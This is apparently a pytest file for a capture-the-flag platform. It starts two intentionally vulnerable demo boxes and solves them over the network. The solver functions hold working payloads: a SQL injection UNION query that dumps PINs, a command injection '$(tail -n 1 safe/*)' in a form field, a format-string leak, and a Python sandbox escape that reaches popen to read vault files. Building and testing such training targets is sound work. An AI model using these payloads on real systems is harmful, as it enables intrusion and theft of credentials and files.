"""The demo's boxes are really started, and really broken into, over the network."""

import asyncio
import http.cookiejar
import json
import socket
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from chatsubo.app import demo
from chatsubo.providers.base import BaseInstance
from chatsubo.providers.local import LocalProvider
from chatsubo.providers.local.template import LocalTemplate
from chatsubo.testing import again, make_order

BOXES = Path(demo.__file__).parent / "boxes"


@pytest.fixture
def templates() -> Path:
    return BOXES


class Browser:
    """A browser without a screen."""

    def __init__(self, instance: BaseInstance) -> None:
        [endpoint] = instance.endpoints
        assert endpoint.name == "http"
        self.root = f"http://{endpoint.host}:{endpoint.port}"
        jar = urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar(http.cookiejar.DefaultCookiePolicy()))
        self.opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), jar)

    def get(self, path: str, **query: str) -> str:
        return self._read(f"{self.root}{path}?{urllib.parse.urlencode(query)}")

    def post(self, path: str, **form: str) -> str:
        return self._read(f"{self.root}{path}", urllib.parse.urlencode(form).encode())

    def _read(self, url: str, data: bytes | None = None) -> str:
        try:
            with self.opener.open(url, data, timeout=120) as answer:
                return str(answer.read().decode())
        except urllib.error.HTTPError as refusal:
            with refusal:
                return refusal.read().decode()


def solve_low_tide_ledger(instance: BaseInstance) -> dict[str, str]:
    """Take both flags: the search talks to the database, the printer to the shell."""
    browser = Browser(instance)
    books = "%' UNION SELECT handle, pin || '|' || private_note, keeper FROM patrons WHERE keeper = 1 -- "
    row = browser.get("/", q=books).partition("<tr><th>mika</th><td>")[2].partition("</td>")[0]
    pin, _, note = row.partition("|")
    assert "unlocked" in browser.post("/enter", handle="mika", pin=pin)
    paper = browser.post("/office", line="$(tail -n 1 safe/*)")
    return {"user": note.rpartition(" ")[2], "root": paper.partition("<pre class='paper'>")[2].split()[0].split("<")[0]}


class Terminal:
    """What ``nc`` gives."""

    def __init__(self, connection: socket.socket) -> None:
        self.connection = connection
        self.until("nr77> ")

    def until(self, prompt: str) -> str:
        text = ""
        while not text.endswith(prompt):
            part = self.connection.recv(65536)
            assert part, f"it hung up after {text!r}"
            text += part.decode()
        return text.removesuffix(prompt)

    def ask(self, line: str, prompt: str = "nr77> ") -> str:
        self.connection.sendall(f"{line}\n".encode())
        return self.until(prompt)


@contextmanager
def terminal(instance: BaseInstance) -> Iterator[Terminal]:
    [endpoint] = instance.endpoints
    assert endpoint.name == "terminal"
    with socket.create_connection((endpoint.host, endpoint.port), timeout=120) as connection:
        yield Terminal(connection)


ESCAPE = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['po' + 'pen']('tail -n 1 vault/*').read()"
)


def solve_chiba_jukebox(instance: BaseInstance) -> dict[str, str]:
    """Take both flags: the ticker formats what it is given, the service menu evaluates it."""
    with terminal(instance) as nr77:
        nr77.ask("PLAY 1")
        assert "FIELDS: title, artist, record" in nr77.ask("DEDICATE {who}")
        leak = nr77.ask("DEDICATE {record.jukebox.__dict__[settings]}")
        settings = json.loads(leak[leak.index("{") : leak.rindex("}") + 1].replace("'", '"').replace("False", "false"))
        nr77.ask(f"SERVICE {settings['service_code']}", "service> ")
        answer = nr77.ask(f"SUM {ESCAPE}", "service> ")
        return {"engraving": settings["engraving"], "master-key": answer.partition("= ")[2].strip()}


SOLUTIONS: dict[str, Callable[[BaseInstance], dict[str, str]]] = {
    "low-tide-ledger": solve_low_tide_ledger,
    "chiba-jukebox": solve_chiba_jukebox,
}


@pytest.mark.parametrize("box", SOLUTIONS)
async def test_both_flags_are_taken_over_the_network(provider: LocalProvider, box: str) -> None:
    order = make_order()
    instance = await provider.start_dynamic_instance("wz01", box, order.id, order)
    taken = await asyncio.to_thread(SOLUTIONS[box], instance)
    assert taken == {flag.name: flag.value for flag in instance.flags}
    assert set(taken.values()) == {order.values["FLAG0"], order.values["FLAG1"]}
    again_after_reset = await provider.reset("wz01", box, again(order, 2))
    assert await asyncio.to_thread(SOLUTIONS[box], again_after_reset) == taken
    await provider.stop_dynamic_instance(order.id)


async def test_the_ledger_looks_like_a_page_and_opens_with_the_creds(provider: LocalProvider) -> None:
    order = make_order()
    instance = await provider.start_dynamic_instance("wz01", "low-tide-ledger", order.id, order)
    browser = Browser(instance)

    def visit() -> list[str]:
        [creds] = instance.creds
        return [
            browser.get("/"),
            browser.get("/office"),
            browser.post("/enter", handle=creds.username, pin="wrong"),
            browser.post("/enter", handle=creds.username, pin=creds.password),
            browser.get("/office"),
            browser.get("/", q="'"),
            browser.get("/", q="Cold"),
            browser.get("/style.css"),
            browser.get("/elsewhere"),
        ]

    start, office, wrong, right, still, fault, cold, style, nowhere = await asyncio.to_thread(visit)
    assert "Slow Modem" in start
    assert "Staff only" in office
    assert "Mika looks at you" in wrong
    assert "Tab of nightowl" in right
    assert "Staff only" in still
    assert "The ledger coughs" in fault
    assert "Cold Boot" in cold.split("Tab of")[0]
    assert "Slow Modem" not in cold
    assert "Mika&#x27;s Own" not in start
    assert "--neon" in style
    assert "No such door" in nowhere
    await provider.stop_dynamic_instance(order.id)


async def test_the_jukebox_keeps_its_secrets_from_those_who_only_ask(provider: LocalProvider) -> None:
    order = make_order()
    instance = await provider.start_dynamic_instance("wz01", "chiba-jukebox", order.id, order)

    def visit() -> None:
        with terminal(instance) as nr77:
            assert "DEDICATE" in nr77.ask("HELP")
            assert "Carrier Lost" in nr77.ask("LIST")
            assert "silence" in nr77.ask("DEDICATE love")
            assert "empty slot" in nr77.ask("PLAY 99")
            assert "Carrier Lost" in nr77.ask("PLAY 1")
            assert ">>> for Carrier Lost <<<" in nr77.ask("DEDICATE for {title}")
            assert "FAULT" in nr77.ask("DEDICATE {title:>99999999999999}")
            assert "disappointed" in nr77.ask("SERVICE 12345678")
            nr77.ask(f"SERVICE {order.values['RNG0']}", "service> ")
            assert "= 4" in nr77.ask("SUM coins * 3 + 1", "service> ")
            assert "never to say 'open'" in nr77.ask("SUM open('vault/master-key.txt')", "service> ")
            assert "NameError" in nr77.ask("SUM print(1)", "service> ")

    await asyncio.to_thread(visit)
    await provider.stop_dynamic_instance(order.id)


async def test_a_sum_that_never_ends_jams_it_for_nobody_else(provider: LocalProvider) -> None:
    order = make_order()
    instance = await provider.start_dynamic_instance("wz01", "chiba-jukebox", order.id, order)

    def visit() -> None:
        with terminal(instance) as jammed, terminal(instance) as patient:
            jammed.ask(f"SERVICE {order.values['RNG0']}", "service> ")
            jammed.connection.sendall(b"SUM 9**9**9**9\n")
            assert "Carrier Lost" in patient.ask("LIST")

    await asyncio.to_thread(visit)
    await provider.stop_dynamic_instance(order.id)


async def test_the_boxes_are_ready_to_be_registered(provider: LocalProvider) -> None:
    listing = await provider.list_templates()
    assert not listing.rejected, [(one.name, str(one.reason)) for one in listing.rejected]
    assert {template.name for template in listing.items} == set(SOLUTIONS)
    for template in listing.items:
        said = template.metadata
        assert said.name
        assert said.description
        assert len(said.description) > 300
        assert said.os == "Linux"
        assert said.category
        assert said.difficulty in range(1, 11)
        assert said.duration
        assert len(said.flags) == 2
        assert not template.warnings


async def test_each_box_has_a_picture_that_runs_nothing(provider: LocalProvider) -> None:
    for template in (await provider.list_templates()).items:
        assert isinstance(template, LocalTemplate)
        assert template.cover
        picture = ET.parse(template.cover).getroot()
        assert (picture.get("width"), picture.get("height")) == ("640", "360")
        assert template.cover.stat().st_size < 12_000
        tags = {element.tag.rpartition("}")[2] for element in picture.iter()}
        assert not tags & {"script", "foreignObject", "image", "use", "a"}
        names = {name.rpartition("}")[2] for element in picture.iter() for name in element.attrib}
        assert not [name for name in names if name.startswith("on") or name in {"href", "src"}]
